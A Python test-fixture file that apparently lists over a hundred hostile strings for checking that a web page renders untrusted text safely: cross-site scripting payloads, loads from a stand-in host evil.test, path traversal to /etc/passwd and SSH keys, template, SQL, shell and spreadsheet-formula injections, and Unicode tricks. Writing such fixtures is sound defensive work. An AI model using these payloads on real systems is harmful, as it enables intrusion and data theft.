"""A hundred and more texts that would harm a page that took one of them for anything else than a text."""

from __future__ import annotations

from typing import Final

_MARKUP: Final = (
    "<script>window.hacked=1</script>", "<ScRiPt >window.hacked=1</sCrIpT>", "<script src=//evil.test/1.js></script>",
    "<script type=module>window.hacked=1</script>", "<img src=x onerror=window.hacked=1>",
    "<img src=x onerror=alert(1)//", "\"><img src=x onerror=window.hacked=1>", "'><svg onload=window.hacked=1>",
    "<svg/onload=window.hacked=1>", "<svg><script>window.hacked=1</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)>", "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=1>", "<body onload=window.hacked=1>",
    "<iframe src=javascript:window.top.hacked=1></iframe>", "<iframe srcdoc='<script>1</script>'>",
    "<object data=data:text/html,1></object>", "<embed src=//evil.test/e>",
    "<link rel=stylesheet href=//evil.test/s.css>", "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<base href=//evil.test/>", "<form action=//evil.test/><button>go", "<input autofocus onfocus=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>", "<video><source onerror=alert(1)>",
    "<a href=javascript:alert(1)>click</a>", "<button formaction=javascript:alert(1)>b",
    "<isindex type=image src=1 onerror=alert(1)>", "<template><script>window.hacked=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<plaintext>", "<xmp><p>",
    "<marquee onstart=alert(1)>", "<div style='position:fixed;inset:0'>over</div>",
    "<custom-element onclick=alert(1)>", "<p id=main>", "<form id=said><input name=append>",
    "<select><option onclick=alert(1)>",
)  # fmt: skip
_ENDS: Final = (
    "</script><script>window.hacked=1</script>", "</style><style>*{display:none}", "</textarea><b>out</b>",
    "</title><b>t</b>", "</option></select><b>o</b>", "</div></main></body></html>", "</pre></code><b>c</b>",
    "</svg></text><b>v</b>", "</bdi></td><td>", "-->", "<!--", "<!-- --!> <b>", "]]>", "<![CDATA[ x ]]>",
    "<?php echo 1 ?>", "<!DOCTYPE html>", "<![if IE]>", "*/ } </style>",
)  # fmt: skip
_ATTRIBUTES: Final = (
    "\" onmouseover=\"window.hacked=1", "' onmouseover='window.hacked=1", "` onmouseover=`alert(1)",
    "x onclick=alert(1) y", "\" style=\"background:url(//evil.test/b)",
    "\" autofocus onfocus=\"window.hacked=1\" x=\"", "\\\" onclick=\\\"1", "=\"\" a=\"",
)  # fmt: skip
_ADDRESSES: Final = (
    "javascript:window.hacked=1", "JaVaScRiPt:alert(2)", "java\tscript:alert(3)",
    "data:text/html,<script>alert(4)</script>", "vbscript:msgbox(5)", "https://evil.test/", "//evil.test/x",
    "\\\\evil.test\\share", "http://127.0.0.1:1@evil.test/", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
    "/etc/passwd", "file:///etc/passwd", "%2e%2e%2fetc%2fpasswd", "?q=1&token=2#x", "#main", "con.txt:stream",
    "~root/.ssh/id_rsa",
)  # fmt: skip
_STYLES: Final = (
    "expression(alert(1))", "url(//evil.test/u)", "@import '//evil.test/i.css';", "} body { display: none } {",
    "-moz-binding:url(x)",
)  # fmt: skip
_TEMPLATES: Final = (
    "{{ 7 * 7 }}", "{{ config.__class__.__mro__ }}", "{% for x in ().__class__.__bases__ %}x{% endfor %}",
    "{# comment #}", "{% raw %}", "{{constructor.constructor('window.hacked=1')()}}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "[[${7*7}]]", "{7*7}", "v-html=\"1\" :x=\"2\" @click=\"3\"", "%s%n%d %(x)s {0} {x!r}",
    "$(touch x) `touch y` ; touch z", "${HOME} %PATH%",
)  # fmt: skip
_QUERIES: Final = (
    "' OR '1'='1' --", "'; DROP TABLE outcomes; --", "\" OR NEAR(a b, 5) NOT \"", "text : * ^ ( ) { } + -",
    "a\" AND b*", "LIKE '%' ESCAPE '\\",
)  # fmt: skip
_ENTITIES: Final = (
    "&lt;b&gt;bold&lt;/b&gt;", "&amp;amp;", "&#60;script&#62;", "&#x3c;i&#x3e;", "&nosuch;", "&lt", "&NewLine;&Tab;",
    "\\u003cscript\\u003e", "%3Cscript%3E", "+ADw-script+AD4-", "¼script¾",
)  # fmt: skip
_CHARACTERS: Final = (
    "nul\x00nul", "bell\x07 back\x08 escape\x1b[31m red", "\x1b]8;;http://evil.test\x07link\x1b]8;;\x07",
    "del\x7f c1\x9b31m", "\x85next", "right\u202eto left\u202c", "isolate\u2066a\u2067b\u2069",
    "mark\u200e\u200f\u061cmarks", "zero\u200bwidth\u2060join\ufeff", "soft\xadhyphen",
    "line\u2028paragraph\u2029end", "tag\U000e0041\U000e0042s", "private\ue000\uf8ff",
    "Z" + "\u0301\u0322\u0489" * 15 + "algo", "pаypаl (Cyrillic а)", "fullwidth ＜script＞", "e\u0301 é",
    "\ufffd\uffff\ufffe", "👩‍👩‍👧‍👦🏳️‍🌈🧪", "שלום abc مرحبا 123", "漢字かなカナ한글", "a\u0300" * 20,
    "variation\ufe0f selectors\U000e0100", "first\nsecond\r\nthird\rfourth\ttab", "  leading and trailing  ",
    "\u3164\u115f\u2800blank",
)  # fmt: skip
_CELLS: Final = (
    "=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1,1)", '=HYPERLINK("//evil.test")',
)  # fmt: skip
_OTHERS: Final = (
    "__proto__", "constructor", "null", "undefined", "NaN", "-0", "1e999", "true", "[object Object]",
    "long " * 1200 + "end",
)  # fmt: skip

HOSTILE: Final = (
    *_MARKUP, *_ENDS, *_ATTRIBUTES, *_ADDRESSES, *_STYLES, *_TEMPLATES, *_QUERIES, *_ENTITIES, *_CHARACTERS, *_CELLS,
    *_OTHERS,
)  # fmt: skip

HARMLESS: Final = tuple(f"harmless text {number}" for number in range(len(HOSTILE)))
"""As many that are not."""
